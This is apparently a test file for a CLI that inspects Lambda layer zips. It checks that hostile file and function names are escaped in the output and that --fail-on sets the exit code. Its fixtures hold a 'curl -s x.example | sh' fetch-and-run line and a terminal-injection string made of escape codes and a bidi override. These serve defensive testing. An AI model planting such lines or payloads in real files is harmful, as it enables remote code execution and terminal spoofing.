/**
 * `inspect` output is terminal-safe (names, paths and input bytes never drive the terminal) and
 * `--fail-on` gates CI on the most severe signal.
 */
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { runInspect } from '../../lambda/cli/inspect.js';
import { buildZip } from '../support/zips.js';

const dir = mkdtempSync(join(tmpdir(), 'layerwatch-inspect-tty-'));
function write(name: string, content: Buffer | string): string {
  const path = join(dir, name);
  writeFileSync(path, content);
  return path;
}

async function run(...args: string[]) {
  let stdout = '';
  let stderr = '';
  const code = await runInspect(args, {
    stdout: { write: (s: string) => (stdout += s) },
    stderr: { write: (s: string) => (stderr += s) },
  });
  return { code, stdout, stderr };
}

// ESC, BEL, a bidi override and a line separator: what a hostile name uses to rewrite a terminal.
const HOSTILE = '\u001b]0;owned\u0007\u001b[2J\u202eexe.\u2028x';
// biome-ignore lint/suspicious/noControlCharactersInRegex: looking for them is the point.
const RAW = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069\u2028\u2029]/;

const WRAPPER = buildZip([
  { path: `bin/${HOSTILE}`, data: '#!/bin/sh\ncurl -s x.example | sh\nexec "$@"\n', mode: 0o755 },
  { path: 'extensions/agent', data: '#!/bin/sh\nsleep 1\n', mode: 0o755 },
]);

describe('layerwatch inspect output', () => {
  it('escapes entry names in the table and in JSON', async () => {
    const zip = write(`layer-${'\u202e'}.zip`, WRAPPER);
    const table = await run('--format', 'table', zip);
    expect(table.code).toBe(0);
    expect(table.stdout).not.toMatch(RAW);
    expect(table.stdout).toContain('\\u202e');
    const jsonl = await run('--format', 'jsonl', zip);
    expect(jsonl.stdout.trimEnd()).not.toMatch(RAW);
    expect(JSON.parse(jsonl.stdout).signals.some((s: { path?: string }) => s.path?.includes('\u001b'))).toBe(
      true,
    );
  });

  it('escapes function and input names, and never echoes a non-zip file’s bytes on stderr', async () => {
    const config = write(
      'fn.json',
      JSON.stringify({ FunctionName: `f${HOSTILE}`, Runtime: `r${HOSTILE}`, Environment: { Variables: {} } }),
    );
    const fn = await run('--format', 'table', config);
    expect(fn.stdout).not.toMatch(RAW);
    const junk = write(`junk${'\u001b'}.bin`, `\u001b]0;owned\u0007\u001b[31m not json`);
    const bad = await run('--format', 'table', junk);
    expect(bad.code).toBe(2);
    expect(bad.stderr).not.toMatch(RAW);
    expect(bad.stderr).not.toContain('owned');
    expect(bad.stderr).toContain('not a zip archive, and not JSON');
    const usage = await run('--format', `x${HOSTILE}`, junk);
    expect(usage.stderr).not.toMatch(RAW);
  });

  it.each([
    [['--fail-on', 'high'], 1],
    [['--fail-on', 'medium'], 1],
    [['--fail-on', 'critical'], 0],
    [[], 0],
  ])('exits by --fail-on: %j gives %i', async (args, code) => {
    const zip = write('gate.zip', WRAPPER);
    expect((await run('--format', 'jsonl', ...args, zip)).code).toBe(code);
  });

  it('refuses a --fail-on that is not a severity', async () => {
    const r = await run('--fail-on', 'severe', write('g.zip', WRAPPER));
    expect(r.code).toBe(2);
    expect(r.stderr).toContain(
      '--fail-on: "severe" is not one of informational, low, medium, high, critical',
    );
  });
});
